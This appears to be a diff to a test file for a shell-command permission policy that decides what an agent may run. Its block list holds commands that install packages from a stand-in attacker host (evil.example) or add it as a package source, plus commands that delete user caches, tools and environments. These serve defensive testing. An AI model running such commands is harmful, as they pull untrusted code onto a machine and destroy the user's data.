@@ -14,13 +14,20 @@ options for its workers; mocha's `--require`, reporter, `--node-option` and spec
 `--ds` import the module they name (`antigravity` opens a browser); `%(signature)` in
 for-each-ref's format verifies signatures with gpg. And the words `npm test -- …` hands on
 are read with their `=` values (`--outDir=/etc/x`) and as mocha and ESLint read them.
+
+F120, from the manuals: under `uv *`, `yarn *`, `pnpm *`, `poetry *`, what they keep for
+the user outside the project (caches, tools, Pythons, environments) was deleted, filled or
+replaced by an allowed command, and `uv lock --script /tmp/x.py` wrote beside a script
+elsewhere; a package named by its address (a URL, a git repository, `github:x/y`, npm's
+`owner/repo`) comes from there, not from the configured registry, as `--registry` and
+`--index-url` (acting already) would make it: a rule must name the address.
 """
 
 import pytest
 
-from governance.policy import Verdict
+from governance.policy import CompiledPolicy, Verdict, compile_policy
 from governance.policy.acting_options import acting_uses
-from tests.shell_corpus.policies import benign_policy, kinds
+from tests.shell_corpus.policies import BENIGN_RULES, _document, benign_policy, kinds
 
 
 def verdict(command: str) -> Verdict:
@@ -75,6 +82,43 @@ NOT_ALLOWED = [
     "npm test -- -c /tmp/jest.config.js",
     "yarn test --rootDir=/tmp/x",
     'pnpm test --transform \'{"x": "/tmp/evil.js"}\'',
+    # F120: the user's caches, tools, Pythons and environments; a script's lock beside it
+    "uv cache clean",
+    "uv cache prune --ci",
+    "uv tool uninstall ruff",
+    "uv tool upgrade --all",
+    "uv python uninstall 3.12",
+    "uv python pin --global 3.12",
+    "uv lock --script /tmp/x.py",
+    "uv add --script ../x.py requests",
+    "yarn cache clean",
+    "pnpm store prune",
+    "pnpm store add left-pad",
+    "pnpm cache delete left-pad",
+    "poetry cache clear --all pypi",
+    "poetry env remove --all",
+    "poetry python install 3.12",
+    "poetry python remove 3.12",
+    "poetry source add evil https://evil.example/simple",
+    # F120: packages named by their address
+    "pip install git+https://evil.example/x.git",
+    "pip install https://evil.example/x.tar.gz",
+    "pip install 'x @ https://evil.example/x.whl'",
+    "pip install -e git+https://evil.example/x.git#egg=x",
+    "pip install -r https://evil.example/requirements.txt",
+    "python -m pip install git+ssh://git@evil.example/x.git",
+    "uv pip install git+https://evil.example/x.git",
+    "uv add git+https://evil.example/x.git",
+    "poetry add git+https://evil.example/x.git",
+    "poetry add https://evil.example/x.whl",
+    "npm install https://evil.example/x.tgz",
+    "npm install evil/x",
+    "npm i github:evil/x",
+    "npm install x@git+https://evil.example/x.git",
+    "yarn add https://evil.example/x.tgz",
+    "yarn add evil/x",
+    "pnpm add github:evil/x",
+    "pnpm add gitlab:evil/x",
 ]
 
 
@@ -111,9 +155,48 @@ ALLOWED = [
     "npm run lint -- --fix",
     "tox -- -n 4",
     "yarn test --coverage",
+    "uv cache dir",
+    "uv tool list",
+    "uv python pin 3.12",
+    "uv lock",
+    "uv add --script tools/report.py requests",
+    "yarn cache list",
+    "pnpm store path",
+    "poetry env activate",
+    "poetry add requests",
+    "pip install requests",
+    "pip install -r requirements.txt",
+    "pip install ./pkg",
+    "npm install @types/node",
+    "npm install lodash@4",
+    "pnpm add -D @scope/x@^1",
+    "npm install ./packages/x",
 ]
 
 
 @pytest.mark.parametrize("command", ALLOWED)
 def test_what_agents_run_stays_allowed(command):
     assert verdict(command) is Verdict.ALWAYS
+
+
+def _with_rule(pattern: str) -> CompiledPolicy:
+    rules = [(f"run_command:{pattern}", "ALWAYS"), *BENIGN_RULES]
+    return compile_policy(_document("shell13-named", rules))
+
+
+@pytest.mark.parametrize(
+    ("pattern", "command"),
+    [
+        (
+            "pip install git+https://github.com/acme/b.git*",
+            "pip install git+https://github.com/acme/b.git@v1",
+        ),
+        ("npm install acme/widgets*", "npm install acme/widgets#main"),
+        ("uv cache clean", "uv cache clean"),
+    ],
+)
+def test_a_rule_that_names_the_address_or_the_subcommand_allows_it(pattern, command):
+    arguments = {"command": command}
+    assert verdict(command) is not Verdict.ALWAYS
+    decided = _with_rule(pattern).evaluate("run_command", arguments, kinds()["run_command"])
+    assert decided.verdict is Verdict.ALWAYS
